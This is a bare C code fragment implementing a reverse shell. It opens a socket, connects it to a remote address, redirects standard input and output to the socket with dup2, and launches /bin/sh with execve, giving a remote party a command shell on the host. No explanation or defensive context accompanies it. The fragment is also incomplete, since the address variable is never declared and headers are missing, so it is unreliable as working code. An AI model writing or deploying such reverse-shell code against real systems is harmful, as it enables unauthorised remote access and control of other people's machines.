#include <sys/socket.h>
int main() {
  int s = socket(2, 1, 0);
  connect(s, &a, sizeof a);
  dup2(s, 0);
  dup2(s, 1);
  execve("/bin/sh", 0, 0);
}
